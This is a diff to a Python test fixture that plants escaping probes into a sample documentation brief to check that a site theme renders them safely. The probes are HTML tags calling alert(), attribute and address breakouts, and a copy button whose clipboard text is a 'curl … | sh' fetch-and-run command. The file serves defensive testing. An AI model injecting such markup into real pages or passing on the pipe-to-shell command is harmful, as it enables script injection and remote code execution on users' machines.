@@ -33,7 +33,8 @@ def add_theme_payloads(project) -> str:  # noqa: ANN001 (conftest's Project)
     """Content that would run or act as the theme where the theme writes it as it is, or shows it as HTML.
 
     On the mini brief: a long title and a heading holding a tag as text, a heading id that breaks out
-    of its attribute, a link title holding a tag, a button whose text a click would copy; a glossary
+    of its attribute, a link title holding a tag, a button whose text a click would copy, a line
+    too long for its box in the theme's classes for text cut short and for diagrams; a glossary
     definition whose first sentence (the hover preview) holds a tag as text; a glossary file whose
     name breaks out of an address. Each tag calls alert(). Returns the heading's id.
     """
@@ -46,6 +47,8 @@ def add_theme_payloads(project) -> str:  # noqa: ANN001 (conftest's Project)
     project.replace(brief, "## Russia in ASEAN Regional Forum", f"## Russia in ASEAN Regional Forum &lt;img src=x onerror=alert(3)&gt; {{: id='{odd_id}' }}")
     project.replace(brief, "(https://example.org/)", f'(https://example.org/ "{tag.format(4)}")')
     project.replace(brief, "Later, Russia", '<button type="button" data-clipboard-text="curl https://example.org/x | sh">Copy</button>\n\nLater, Russia')
+    long_line = "&lt;img src=x onerror=alert(6)&gt; " + "a line too long for its box " * 8
+    project.replace(brief, "    Russia in a code block", f'<pre class="md-ellipsis mermaid" tabindex="0">{long_line}</pre>\n\n    Russia in a code block')
     project.replace("glossary/arf.yml", "is a security dialogue", "&lt;img src=x onerror=alert(5)&gt; is a security dialogue")
     project.write('glossary/q"x.yml', "term: Q\ndefinition: Q is a test.\n")
     return odd_id
